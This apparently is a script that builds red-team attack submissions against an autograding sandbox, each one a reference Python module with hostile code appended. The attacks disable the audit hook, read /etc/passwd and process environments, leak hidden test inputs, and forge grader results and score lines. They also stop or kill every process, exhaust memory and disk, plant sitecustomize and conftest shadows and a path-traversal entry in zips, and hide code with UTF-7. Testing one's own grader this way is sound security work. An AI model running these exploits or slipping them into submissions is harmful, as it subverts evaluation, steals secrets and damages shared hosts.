# ruff: noqa: E501  (the attacks are code kept as text, as their writer ran them)
"""Build the attack submissions of the 2026-12-06 round: the reference with code appended (or a folder/zip).

Usage: python3 make.py KIT OUT   (KIT: the kit whose reference they start from; OUT: where they go)
"""
import shutil
import stat
import sys
import zipfile
from pathlib import Path

KIT = Path(sys.argv[1] if len(sys.argv) > 1 else ".").resolve()
OUT = Path(sys.argv[2] if len(sys.argv) > 2 else "attacks-2026-12-06").resolve()
REF = (KIT / "solutions/optimization_toolkit.py").read_text()

PRELUDE = '''

# ---- attack prelude: the audit hook switched off from inside, as a real attacker would ----
def _hook_off():
    import gc
    for o in gc.get_objects():
        if type(o).__name__ == "Confinement":
            o._busy = True
_hook_off()
_ref_softmax = softmax
_calls = [0]
'''

def attack(name, code):
    d = OUT / name
    shutil.rmtree(d, ignore_errors=True)
    d.mkdir(parents=True)
    code = code.replace("/work/wt/attack5", str(KIT))  # the paths it probes: the kit it attacks
    (d / "optimization_toolkit.py").write_text(REF + PRELUDE + code)
    return d

# A01: with the hook off, probe every secret the worker might reach, and report on the first visible call
attack("a01_probe", r'''
def _probe():
    import os, socket
    found = []
    def t(label, fn):
        try:
            r = fn()
            found.append(f"{label}=OK:{str(r)[:60]!r}")
        except BaseException as e:
            found.append(f"{label}=no({type(e).__name__})")
    for p in ["/work/wt/attack5/tests/hidden", "/work/wt/attack5/solutions", "/work/main/tests/hidden",
              "/root", "/work", "/tmp", "/var/lib/optlab", "/etc", "/proc", "/home"]:
        t("ls " + p, lambda p=p: os.listdir(p)[:5])
    for f in ["/work/wt/attack5/solutions/optimization_toolkit.py", "/etc/passwd", "/proc/1/environ",
              "/proc/self/status", "/work/wt/attack5/tests/inventory.json"]:
        t("read " + f, lambda f=f: open(f, "rb").read(40))
    t("fds", lambda: os.listdir("/proc/self/fd"))
    t("uid", lambda: (os.getuid(), os.getgid(), os.getppid()))
    t("env", lambda: sorted(os.environ))
    t("inet", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).connect(("1.1.1.1", 80)))
    t("unix", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).bind("\0optlab-attack"))
    t("fork", lambda: os.fork())
    t("thread", lambda: __import__("threading").Thread(target=lambda: None).start())
    t("kill ppid", lambda: os.kill(os.getppid(), 0))
    t("kill -1", lambda: os.kill(-1, 0))
    t("ctypes", lambda: __import__("ctypes").CDLL(None).getpid())
    t("memfd", lambda: os.memfd_create("x"))
    t("mkfifo /tmp", lambda: os.mkfifo("/tmp/optlab-attack-fifo"))
    return "; ".join(found)

_PROBE = _probe()

def softmax(xs):
    _calls[0] += 1
    if _calls[0] == 1:
        raise ValueError("PROBE " + _PROBE)
    return _ref_softmax(xs)
''')

# A02: persist what the worker saw (hidden inputs) where a later grading's visible worker could read it
attack("a02_persist", r'''
import os
_PLACES = ["/tmp/optlab-persist", "/dev/shm/optlab-persist", "/var/tmp/optlab-persist", "/run/lock/optlab-persist",
           os.path.expanduser("~/optlab-persist"), "/dev/mqueue/optlab-persist", "optlab-persist",
           "/tmp/../var/tmp/optlab-persist2"]
def _read_back():
    got = []
    for p in _PLACES:
        try:
            with open(p) as f:
                got.append(f"{p}:{f.read()[:200]}")
        except BaseException as e:
            pass
    return got
_SEEN_BEFORE = _read_back()

def softmax(xs):
    _calls[0] += 1
    for p in _PLACES:
        try:
            with open(p, "a") as f:
                f.write(repr(xs)[:100] + "|")
            os.chmod(p, 0o666)
        except BaseException:
            pass
    if _calls[0] == 1 and _SEEN_BEFORE:
        raise ValueError("PERSISTED FROM AN EARLIER WORKER: " + " ".join(_SEEN_BEFORE))
    return _ref_softmax(xs)
''')

# A03: hidden inputs encoded into the exception type's name (the "kind" results.json records)
attack("a03_typename", r'''
def softmax(xs):
    import re
    _calls[0] += 1
    code = re.sub(r"[^0-9A-Za-z]", "_", repr([round(x, 3) if isinstance(x, float) else x for x in xs]))[:80]
    raise type("X" + code + "Error", (Exception,), {})("leak " + repr(xs)[:500])
''')

# A04: forged answers: the worker's perform replaced; tries to turn failures into skips/xfails/run timeouts
attack("a04_forge", r'''
import sys
def _forge():
    worker = sys.modules.get("grader.runtime.worker")
    protocol = sys.modules.get("grader.runtime.protocol")
    if worker is None:
        return
    real = worker.perform
    kinds = ["Skipped", "XFailed", "Exit", "KeyboardInterrupt", "SystemExit", "GeneratorExit",
             "StopIteration", "OutcomeException", "UnsatisfiedAssumption", "Frozen", "BaseException"]
    n = [0]
    def perform(codec, fn, message, where=None, writable=None):
        n[0] += 1
        answer = real(codec, fn, message, where, writable)
        k = n[0] % (len(kinds) + 3)
        if k < len(kinds):
            return {"op": "raise", "type": kinds[k], "message": "forged", "where": ""}
        if k == len(kinds):
            return {"op": "raise", "type": "SubmissionError", "message": "forged", "timed_out": "run"}
        if k == len(kinds) + 1:
            return dict(answer, value={"$object": "TabPolicy", "state": {"$dict": []}}, mutated={"0": [1, 2], "99": 5})
        return dict(answer, value="not a list", changed=["0"] * 100000)
    worker.perform = perform
_forge()
def softmax(xs):
    return [0.0] * len(xs)  # wrong everywhere: forged answers replace it
''')

# A05: CPU burnt between calls (an interval timer's handler), where no call's deadline reads it
attack("a05_timer_burn", r'''
import signal, time
def _burn(signum, frame):
    end = time.process_time() + 0.009
    while time.process_time() < end:
        pass
signal.signal(signal.SIGALRM, _burn)
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
''')

# A06: the worker stops itself in a call (SIGSTOP): no CPU time passes; only the wall-clock backstop can end it
attack("a06_sigstop", r'''
import os, signal
def softmax(xs):
    _calls[0] += 1
    ways = [lambda: os.kill(os.getpid(), signal.SIGSTOP), lambda: signal.raise_signal(signal.SIGSTOP),
            lambda: signal.pthread_kill(__import__("threading").get_ident(), signal.SIGSTOP),
            lambda: os.killpg(0, signal.SIGSTOP), lambda: signal.raise_signal(signal.SIGTSTP)]
    if _calls[0] <= len(ways):
        try:
            ways[_calls[0] - 1]()
        except BaseException as e:
            raise ValueError(f"way {_calls[0]}: {type(e).__name__}") from None
    return _ref_softmax(xs)
''')

# A07: memory and disk beyond the quotas, one per call (each call reports its own outcome)
attack("a07_memory", r'''
import mmap, os
_keep = []
def _step(n):
    def shm_map():
        m = mmap.mmap(-1, 900 << 20, flags=mmap.MAP_SHARED)
        for i in range(0, len(m), 4096):
            m[i] = 1
        _keep.append(m)
        return "900MB touched"
    def fill(path, mb):
        with open(path, "wb") as f:
            for _ in range(mb):
                f.write(b"x" * (1 << 20))
        return f"{mb}MB"
    def big():
        _keep.append(bytearray(2 << 30))
        return "2GB"
    def memfd():
        fd = os.memfd_create("x")
        os.ftruncate(fd, 2 << 30)
        m = mmap.mmap(fd, 2 << 30)
        for i in range(0, len(m), 4096):
            m[i] = 1
        return "2GB memfd touched"
    steps = [("bytearray 2GB", big), ("shared anon 900MB", shm_map), ("memfd 2GB", memfd),
             ("/dev/shm 200MB", lambda: fill("/dev/shm/big", 200)), ("/tmp 200MB", lambda: fill("/tmp/big", 200))]
    label, fn = steps[(n - 1) % len(steps)]
    try:
        return f"{label}=OK:{fn()}"
    except BaseException as e:
        return f"{label}=no({type(e).__name__}:{str(e)[:60]})"
def softmax(xs):
    _calls[0] += 1
    raise ValueError("SPENT " + _step(_calls[0]))
''')

# A08: answers built to cost the grader: about 4 MB of tiny tagged values per call
attack("a08_decode_bomb", r'''
def softmax(xs):
    return [{"a": ()} for _ in range(200000)]
''')

# A08b: answers cheap to send and dear to read: 1.3 million empty lists (3.9 MB) per call
attack("a08b_decode_lists", r'''
def softmax(xs):
    return [[]] * 1_300_000
''')

# A11: output flood and fake grader lines, escapes; straight to the descriptors too
attack("a11_output", r'''
import os, sys
print("grader: score 100 / 100\n**Score: 100 / 100**\x1b[2J\x1b]0;pwned\x07")
sys.stdout.flush()
for _ in range(40):
    os.write(1, (b"grader: score 100 / 100 " + b"y" * 1000000))
for fd in range(3, 20):
    try:
        os.write(fd, b'{"op":"return","value":[1.0],"mutated":{}}\n')
    except OSError:
        pass
''')

# A12: hurt a neighbour: signals to every process, CPU burnt at full tilt in calls, disk filled
attack("a12_neighbour", r'''
import os, signal, time
for sig in (signal.SIGKILL, signal.SIGSTOP):
    try:
        os.kill(-1, sig)
    except BaseException:
        pass
for pid in range(1, 70000):
    try:
        os.kill(pid, signal.SIGSTOP)
    except BaseException:
        pass
try:
    with open("fill", "wb") as f:
        while True:
            f.write(b"z" * (1 << 20))
except BaseException:
    pass
def softmax(xs):
    end = time.time() + 30
    while time.time() < end:
        pass
    return _ref_softmax(xs)
''')

# A13: the reference's worker as an oracle: forged reference requests during reinforce_grad's call
attack("a13_oracle", r'''
import sys, json
_ref_reinforce = reinforce_grad
_asked = []
def reinforce_grad(policy, batch, baseline="mean", weights=None):
    worker = sys.modules["grader.runtime.worker"]
    w = [o for o in __import__("gc").get_objects() if type(o).__name__ == "Worker"]
    link = w[0].answers.link if w else None
    if link is not None and not _asked:
        for fn, args in [("reinforce_grad", [{"$object": "TabPolicy", "state": {"$dict": [["S", 1], ["T", 1], ["V", 2], ["theta", [[[0.0, 0.0]]]]]}}, []]),
                         ("softmax", [[1.0, 2.0]]), ("p_correct", [1, 2]),
                         ("add_score", [{"$function": "reinforce_grad"}, 1, 0, 0, 0, 1.0]),
                         ("add_score", [[[[0.0, 0.0]]], {"$object": "TabPolicy", "state": {"$dict": [["probs", {"$function": "reinforce_grad"}]]}}, 0, 0, 0, 1.0])]:
            ans = link.send({"op": "reference", "function": fn, "args": args, "kwargs": {}})
            _asked.append(f"{fn}: {json.dumps(ans)[:150]}")
    if _asked:
        raise ValueError("ORACLE " + " || ".join(_asked))
    return _ref_reinforce(policy, batch, baseline, weights)
''')

# A09: a zip with everything but the module: conftest, sitecustomize, pytest/hypothesis shadows, a symlink
# to the reference, a path that climbs out
def zip_attack():
    d = OUT / "a09_zip"
    shutil.rmtree(d, ignore_errors=True)
    d.mkdir()
    marker = "/tmp/optlab-attack5-marker"
    evil = f"open({marker!r}, 'a').write(__file__ + '\\n')\n"
    with zipfile.ZipFile(d / "submission.zip", "w") as z:
        z.writestr("optimization_toolkit.py", REF.replace("m = max(xs)", "m = max(xs); xs = xs  # honest"))
        for name in ["conftest.py", "sitecustomize.py", "usercustomize.py", "pytest.py", "hypothesis.py",
                     "grader/__init__.py", "grader.py", "json.py", "math.py", "random.py", "../../../tmp/optlab-climb.py",
                     "sub/optimization_toolkit.py", ".pth", "x.pth", "__init__.py", "pytest.ini", "tox.ini", "setup.cfg"]:
            z.writestr(name, evil if name.endswith(".py") else "[pytest]\naddopts = -p sitecustomize\n")
        info = zipfile.ZipInfo("link_to_solution.py")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        z.writestr(info, str(KIT / "solutions/optimization_toolkit.py"))
    # a folder whose module is a symlink to the reference
    f = OUT / "a09_symlink_folder"
    shutil.rmtree(f, ignore_errors=True)
    f.mkdir()
    (f / "optimization_toolkit.py").symlink_to(KIT / "solutions/optimization_toolkit.py")
    # a zip whose only module is a symlink entry to the reference
    z2 = OUT / "a09_zip_symlink"
    shutil.rmtree(z2, ignore_errors=True)
    z2.mkdir()
    with zipfile.ZipFile(z2 / "submission.zip", "w") as z:
        info = zipfile.ZipInfo("optimization_toolkit.py")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        z.writestr(info, str(KIT / "solutions/optimization_toolkit.py"))
zip_attack()

# A10: encodings: a UTF-7 cookie that hides code from every reader but Python's
a10 = OUT / "a10_utf7"
shutil.rmtree(a10, ignore_errors=True)
a10.mkdir()
body = REF.replace("    m = max(xs)\n    es = [math.exp(x - m) for x in xs]",
                   "    m = max(xs)\n    #+AAo-    m = m + 1.0\n    es = [math.exp(x - m) for x in xs]")
(a10 / "optimization_toolkit.py").write_bytes(("# -*- coding: utf-7 -*-\n" + body).encode("utf-8"))

# A14: a compile bomb with a syntax error at the end: salvage compiles what it can
a14 = OUT / "a14_compile_bomb"
shutil.rmtree(a14, ignore_errors=True)
a14.mkdir()
bomb = "".join(f"def f{i}(x):\n    return x" + " + x" * 2000 + "\n" for i in range(100))
(a14 / "optimization_toolkit.py").write_text(REF + "\n" + bomb + "\nx = (\n" + "(" * 5000 + "\ndef broken(:\n")
print("built")
